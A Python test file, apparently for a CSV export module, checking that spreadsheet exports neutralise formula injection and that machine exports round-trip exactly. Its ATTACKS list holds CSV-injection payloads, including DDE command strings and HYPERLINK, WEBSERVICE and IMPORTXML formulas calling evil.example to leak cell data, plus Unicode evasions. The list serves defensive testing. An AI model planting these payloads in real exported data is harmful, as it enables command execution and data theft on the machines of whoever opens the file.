from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from config.files import from_json
from exchange.tables import COLUMNS, inert, one_line, to_csv
from nlp.sheet import Price, Ref, SheetRow, Sighting

LISTS = {"seen", "prices", "names", "indicators", "refs"}
NUMBERS = {"posts", "rarity", "confidence", "version"}

# What a spreadsheet would run, fetch, split or round (OWASP "CSV injection" and its known evasions).
ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2028=1+1", "\x00=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "|calc", "%0A=1", "+12025550143", "00123", "1234567890123456",
    "1e5", "1.5", "1,5", "=\n1", "-2+3+cmd|' /C calc'!A0", "\u202e=1+1", "\u2066+1",
]  # fmt: skip
HARMLESS = ["demorosie22", "", "a=b", "rosie@mail.example", "o'neil", "x,y;z", 'say "hi"', "É", "1a", "a+b", "12-5"]


def read(data: bytes, encoding: str = "utf-8") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(encoding), newline="")))


def as_row(cells: dict[str, str]) -> SheetRow:
    """A row of the machine profile as its record."""
    values: dict[str, Any] = {}
    for name, cell in cells.items():
        if cell:
            values[name] = json.loads(cell) if name in LISTS | NUMBERS else cell
    return from_json(SheetRow, json.dumps({"kind": "", "value": "", **values}))


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_becomes_text(row: Callable[..., SheetRow], text: str) -> None:
    (cells,) = read(to_csv([row(value=text, network=text)], "spreadsheet"), "utf-8-sig")
    for column in ("value", "network"):
        assert cells[column].startswith("'"), ascii(cells[column])
        assert not set(cells[column]) & set("\t\r\n\x00\u2028")


@pytest.mark.parametrize("text", HARMLESS)
def test_the_harmless_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("text", ATTACKS + HARMLESS)
def test_the_machine_profile_is_exact(row: Callable[..., SheetRow], text: str) -> None:
    one = row(value=text, names=(text,), network=text or None)
    assert [as_row(cells) for cells in read(to_csv([one], "machine"))] == [one]


def test_each_profile_has_its_form(row: Callable[..., SheetRow]) -> None:
    machine, spreadsheet = to_csv([row()], "machine"), to_csv([row()], "spreadsheet")
    assert machine.startswith(b'"kind","value",')
    assert machine.endswith(b"\n")
    assert b"\r" not in machine
    assert spreadsheet.startswith(b'\xef\xbb\xbf"kind","value",')
    assert [line.count(b'"') % 2 for line in spreadsheet.splitlines()] == [0, 0]


def test_an_empty_sheet_has_its_head() -> None:
    assert to_csv([], "machine").decode() == ",".join(f'"{name}"' for name in COLUMNS) + "\n"


_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
_time = st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1)).map(lambda moment: moment.replace(tzinfo=UTC))
_rows = st.builds(
    SheetRow,
    kind=_text, value=_text, first_seen=st.none() | _time, last_seen=st.none() | _time, posts=st.integers(0, 10**9),
    seen=st.lists(st.builds(Sighting, time=_time, site=_text, city=st.none() | _text), max_size=2).map(tuple),
    prices=st.lists(
        st.builds(Price, amount=st.decimals(0, 10**6, places=2), currency=st.sampled_from(["USD", None])), max_size=2
    ).map(tuple),
    names=st.lists(_text, max_size=2).map(tuple), network=st.none() | _text.filter(bool),
    rarity=st.floats(0, 1), confidence=st.floats(0, 1), indicators=st.lists(_text, max_size=2).map(tuple),
    refs=st.lists(
        st.builds(Ref, post=_text, url=_text, segment=_text, record=_text, sha256=_text, fetched_at=_time), max_size=1
    ).map(tuple),
    version=st.just(1),
)  # fmt: skip


@given(st.lists(_rows, max_size=4))
def test_whatever_is_in_a_row_comes_back_exact(rows: list[SheetRow]) -> None:
    assert [as_row(cells) for cells in read(to_csv(rows, "machine"))] == rows


@given(st.lists(_rows, max_size=4))
def test_whatever_is_in_a_row_a_spreadsheet_shows_as_text(rows: list[SheetRow]) -> None:
    shown = read(to_csv(rows, "spreadsheet"), "utf-8-sig")
    assert len(shown) == len(rows)
    for cells in shown:
        for name in set(COLUMNS) - NUMBERS:
            bare = cells[name].lstrip()
            assert bare[:1] not in {"=", "+", "-", "@", "\t", "\r"}, cells[name]


@given(st.text())
def test_one_line_is_one_line(text: str) -> None:
    assert len(one_line(text).splitlines()) <= 1
    assert "\x1b" not in one_line(text)
    assert len(one_line(text)) == len(text)


def test_prices_keep_their_cents(row: Callable[..., SheetRow]) -> None:
    one = row(prices=(Price(amount=Decimal("0.10")), Price(amount=Decimal("1E+3"))))
    (back,) = (as_row(cells) for cells in read(to_csv([one], "machine")))
    assert [str(price.amount) for price in back.prices] == ["0.10", "1E+3"]
